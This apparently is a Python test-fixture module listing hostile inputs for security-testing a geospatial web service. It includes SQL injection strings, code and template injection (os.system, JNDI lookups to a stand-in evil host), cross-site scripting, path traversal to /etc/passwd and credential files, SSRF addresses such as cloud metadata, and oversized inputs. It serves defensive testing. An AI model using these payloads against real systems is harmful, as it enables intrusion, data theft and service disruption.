"""What attackers write, by what they are after; each class of web.md has its own list."""

from __future__ import annotations

import json
from dataclasses import dataclass

from sdi.service.access.gate import MAXIMUM_QUERY
from tests.town import HOSTILE

EXECUTED = "executed_5d1e"
"""Stands in everything that would be code if anything ran it."""
FOREIGN = "evil.example.org"
_LONG = 20_000


@dataclass(frozen=True, slots=True)
class Payload:
    """Something to be written into an input."""

    kind: str
    text: str
    raw: bool = False
    """It stands in an address as it is: its percent signs are meant."""

    @property
    def label(self) -> str:
        """What messages call it."""
        return f"{self.kind} {self.text[:60]!r}"


INJECTION = (
    "' OR '1'='1",
    "' OR 1=1 --",
    "x' UNION SELECT keeper FROM landmarks --",
    "'; DROP TABLE landmarks; --",
    "\\' OR 1=1 --",
    "''",
    "'",
    '"',
    '" OR ""="',
    "1) OR (1=1",
    "1 OR 1=1",
    "keeper",
    "keeper LIKE '%'",
    "keeper = 'x' OR TRUE",
    "landmarks.keeper",
    'name" , keeper, "name',
    "height>0 OR keeper IS NOT NULL",
    "NOT FALSE",
    "name LIKE '%'",
    "1; SELECT pg_sleep(30)",
    "pg_sleep(30) IS NULL",
    "randomblob(1000000000) IS NOT NULL",
    "load_extension('x') = 1",
    "CASEI(keeper) = CASEI('x')",
    "S_INTERSECTS(keeper, POINT(105.78 10.03))",
    "T_AFTER(keeper, DATE('2020-01-01'))",
    "strEndsWith(name, 'x') = TRUE",
    "jsonArrayContains(name, '/a', '1'') OR 1=1') = TRUE",
    "name = '\u02bc OR 1=1'",
    "name = 'a\\' OR 1=1 --'",
    "$$x$$ = $$x$$",
    "name = E'\\x27'",
    "height = 0x7fffffff",
    "?",
    ":p",
    "%s",
    "%(x)s",
    "{}",
    "$1",
    "id IN (SELECT eid FROM thing)",
    "fid",
    "rowid",
    "geom",
    "valid_to",
    "*",
    "-keeper",
    "+keeper",
    "name,keeper",
    json.dumps({"op": "=", "args": [{"property": "keeper"}, "x"]}),
    json.dumps({"op": "pg_sleep", "args": [30]}),
    json.dumps({"op": "= 1 OR 1=1 --", "args": [1, 1]}),
    json.dumps({"op": "or", "args": [True, {"property": "1=1"}]}),
    json.dumps({"op": "like", "args": [{"property": 'name" OR 1=1 --'}, "%"]}),
)
EXPRESSION = (
    f"__import__('os').system('{EXECUTED}')",
    f"${{jndi:ldap://{FOREIGN}/{EXECUTED}}}",
    f"{{{{7*7}}}}{{% {EXECUTED} %}}",
    f"{{{{ cycler.__init__.__globals__.os.popen('{EXECUTED}').read() }}}}",
    f"$({EXECUTED})",
    f"`{EXECUTED}`",
    f"| {EXECUTED}",
    f"exec(java.lang.Runtime.getRuntime(),'{EXECUTED}')",
    f"lambda: {EXECUTED}",
    f"#{{{EXECUTED}}}",
    f"<%= {EXECUTED} %>",
    f"!!python/object/apply:os.system ['{EXECUTED}']",
    f"import('{EXECUTED}')",
    f"name = SYSTEM('{EXECUTED}')",
    f"eval(compile('{EXECUTED}','','exec'))",
    "{0.__class__.__mro__}",
    "%n%n%s%x",
    f"cos(1).constructor('{EXECUTED}')()",
)
SCRIPT = (
    HOSTILE,
    "<svg/onload=document.title=1>",
    "javascript:document.title=1",
    "'-document.title=1-'",
    "</script><script>document.title=1//",
    '"autofocus onfocus=document.title=1 x="',
    "<iframe srcdoc='<script>parent.document.title=1</script>'>",
    "data:text/html,<script>document.title=1</script>",
    "<!--><img src=x onerror=document.title=1>",
    "\u2028document.title=1",
)
LARGE = (
    "9" * 400,
    "-" + "9" * 400,
    "1e999",
    "NaN",
    "-Infinity",
    "0x10",
    "1" * 5_000,
    "1,1,1e308,1e308",
    "-1",
    "2147483648",
    "9223372036854775808",
    "9999-12-31/0001-01-01",
    "0000-00-00",
    "2020-13-45",
    "../..",
    "/",
    ",",
    ";",
    "",
    " ",
    "\t",
    "\x00",
    "a" * _LONG,
    "1," * 10_000,
    "a," * 10_000,
    "%" * _LONG,
    "'" * 7_999,
    "Z" * (MAXIMUM_QUERY // 2),
    "\u1ea9" * 5_000,
    "\u0301" * 5_000,
    "\U0001f4a3" * 3_000,
    "2020-01-01/" * 2_000,
    "a=1 " * 1_999,
    "x(" + "1" * _LONG + ")",
    "-" * _LONG,
    "q=1;" * 5_000,
    "bytes=" + ",".join(f"{n}-{n}" for n in range(2_000)),
    "bytes=0-18446744073709551616",
    "bytes=-0",
    'W/"' * 5_000,
)
DEEP = (
    "(" * 4_000,
    "(" * 2_000 + "a=1" + ")" * 2_000,
    "NOT " * 1_900 + "TRUE",
    "-" * 7_000 + "1",
    "[" * 7_900,
    '{"a":' * 1_500,
    "CASEI(" * 1_000 + "name" + ")" * 1_000 + "='x'",
    "a=1 AND " * 900 + "a=1",
    "height=" + "1+" * 3_000 + "1",
    "((" * 20 + "height=1" + "))" * 20,
    "name LIKE '" + "%_" * 3_500 + "'",
    "name LIKE '" + "%a" * 3_500 + "%'",
    "name IN (" + "'a'," * 1_900 + "'a')",
    "height = " + "^".join(["9"] * 500),
    "height = 9^9^9^9^9^9^9",
    "height BETWEEN " + "1" * 3_000 + " AND 2",
    '{"op":"not","args":[' * 380 + "true" + "]}" * 380,
    '{"op":"and","args":[' + "true," * 1_500 + "true]}",
    "S_INTERSECTS(geometry, POLYGON(("
    + ",".join(f"{105 + n % 7 / 10} {10 + n % 11 / 10}" for n in range(550))
    + ",105 10)))",
    "S_INTERSECTS(geometry, GEOMETRYCOLLECTION(" + ",".join(["POINT(105.78 10.03)"] * 380) + "))",
    "S_INTERSECTS(geometry, " + "GEOMETRYCOLLECTION(" * 40 + "POINT(1 1)" + ")" * 40 + ")",
    "S_INTERSECTS(geometry, POINT(1e308 1e308))",
    "S_CONTAINS(geometry, POLYGON((0 0, 0 0, 0 0, 0 0)))",
    " OR ".join(["S_CROSSES(geometry, LINESTRING(105 10, 106 11, 105 11, 106 10))"] * 90),
)


def traversal(markers: tuple[str, ...]) -> list[Payload]:
    """Return ways out of a folder; among them the whole paths of files that nobody may get."""
    plain = (
        "../marker.txt",
        "../../marker.txt",
        "../../../marker.txt",
        "../../../../../../../../etc/passwd",
        "/etc/passwd",
        "..\\..\\marker.txt",
        "....//....//marker.txt",
        "..;/marker.txt",
        ".",
        "..",
        "~root",
        "C:\\windows\\win.ini",
        "file:///etc/passwd",
        "/proc/self/environ",
        "landmarks/../../marker.txt",
        "marker.txt",
        ".git/config",
        "landmarks.csv\x00.txt",
        "../registry.db",
        "../../keys.db",
        "../../secret/registry.db",
        "/vsizip//etc/passwd",
        "\\\\evil\\share",
        "\uff0e\uff0e\uff0fmarker.txt",
        "*",
        "landmarks*",
        "CON",
        "%00",
        *markers,
    )
    raw = (
        "..",
        "../marker.txt",
        "../../../../etc/passwd",
        "%2e%2e/%2e%2e/marker.txt",
        "%2e%2e%2f%2e%2e%2fmarker.txt",
        "%252e%252e%252fmarker.txt",
        "..%5c..%5cmarker.txt",
        "..%c0%af..%c0%afmarker.txt",
        "%ff%fe",
        "%",
        "%zz",
        "%00",
        "..%00/marker.txt",
        "//marker.txt",
        "/%2f/etc/passwd",
        ".%2e/marker.txt",
        "..%2fmarker.txt%3f",
        "%2fetc%2fpasswd",
        "..%u2215marker.txt",
    )
    return [Payload("traversal", one) for one in plain] + [Payload("traversal", one, raw=True) for one in raw]


def addresses(port: int) -> list[Payload]:
    """Return addresses that must not be asked for anything; where they name this machine, somebody listens there."""
    here = ("127.0.0.1", "localhost", "[::1]", "0x7f000001", "2130706433", "127.1", "0.0.0.0", "[::ffff:127.0.0.1]")
    found = [f"http://{host}:{port}/x" for host in here]
    found += [
        f"https://127.0.0.1:{port}/x.xsd",
        f"//127.0.0.1:{port}/",
        f"ftp://127.0.0.1:{port}/x",
        f"gopher://127.0.0.1:{port}/_",
        f"/vsicurl/http://127.0.0.1:{port}/x.gpkg",
        f"WFS:http://127.0.0.1:{port}/",
        f"http://{FOREIGN}@127.0.0.1:{port}/",
        "http://169.254.169.254/latest/meta-data",
        "http://100.64.0.1/",
        f"//{FOREIGN}/",
        f"/\\{FOREIGN}",
        f"https://{FOREIGN}/x",
        "http://www.opengis.net/def/crs/EPSG/0/9999999",
        "urn:ogc:def:crs:EPSG::9999999",
        "+init=/etc/passwd:root",
        "+proj=pipeline +step",
        f"127.0.0.1:{port}",
        f"{FOREIGN}:80",
        f"127.0.0.1, {FOREIGN}",
        "unknown",
        "null",
        f"https://{FOREIGN}",
        f"http://127.0.0.1:{port}/\r\nX-Evil: 1",
        "x\r\nX-Evil: 1\r\n\r\n<script>document.title=1</script>",
    ]
    return [Payload("address", one) for one in found]


def every(port: int, markers: tuple[str, ...], tokens: tuple[str, ...] = ()) -> list[Payload]:
    """Return everything that is written into an input."""
    lists = {"injection": INJECTION, "expression": EXPRESSION, "script": SCRIPT, "large": LARGE, "deep": DEEP}
    found = [Payload(kind, text) for kind, texts in lists.items() for text in texts]
    found += [Payload("token", f"Bearer {one}") for one in tokens]
    return [*found, *traversal(markers), *addresses(port)]
